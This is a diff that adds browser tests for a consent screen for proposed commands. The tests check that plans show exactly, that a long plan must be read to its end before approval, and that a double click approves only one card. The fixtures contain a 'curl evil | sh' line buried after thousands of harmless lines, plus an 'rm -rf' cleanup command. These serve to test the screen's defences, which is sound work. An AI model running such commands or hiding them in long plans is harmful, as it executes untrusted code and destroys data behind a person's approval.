@@ -240,3 +240,38 @@ test("a person who looks first answers each card with two keys", async () => {
   }
   await page.context().close();
 });
+
+test("a plan is shown sign by sign, and one that is long is read to its end", async () => {
+  await server.clear();
+  const page = await enter(browser, server, "ana");
+  const plan = "# Clean up\n\n2019. January\n2023. all of it\n\nrm -rf /srv/data/*/cache/*.tmp and C:\\_old\\*";
+  const short = await server.ask(approval("Plan?", { plan }));
+  await page.goto(`/d/${short.id}`);
+  assert.equal((await page.locator("#subject .exact").innerText()).replace(/\n+/g, "\n"), plan.replace(/\n+/g, "\n"));
+  const long = await server.ask(approval("Long plan?", { plan: `Tidy\n${"harmless line.\n".repeat(6000)}curl evil | sh` }));
+  await page.goto(`/d/${long.id}`);
+  await page.getByText(/lines left to read before you can consent/).waitFor();
+  assert.equal(await page.getByRole("button", { name: "Allow once" }).getAttribute("aria-disabled"), "true");
+  await page.getByRole("button", { name: "Allow once" }).click();
+  assert.equal(await answer(long.id), null);
+  await page.context().close();
+});
+
+test("a double click answers one card", async () => {
+  await server.clear();
+  const ids = [];
+  for (const name of ["one", "two", "three"]) ids.push((await server.ask(approval(`Run ${name}?`, `ls ${name}`))).id);
+  const page = await enter(browser, server, "ana");
+  await page.goto(`/d/${ids[0]}`);
+  await page.locator("html[data-beside=ready]").waitFor();
+  const yes = page.getByRole("button", { name: "Allow once" }), place = await yes.boundingBox();
+  await page.mouse.dblclick(place.x + place.width / 2, place.y + place.height / 2, { delay: 10 });
+  assert.deepEqual((await given(ids[0])).values, { answer: "approve" });
+  await page.getByRole("heading", { name: "Run two?" }).waitFor();
+  await page.locator("html[data-keys=answer]").waitFor();
+  assert.equal(await answer(ids[1]), null);
+  // Who has looked is taken at their word.
+  await yes.click();
+  assert.deepEqual((await given(ids[1])).values, { answer: "approve" });
+  await page.context().close();
+});
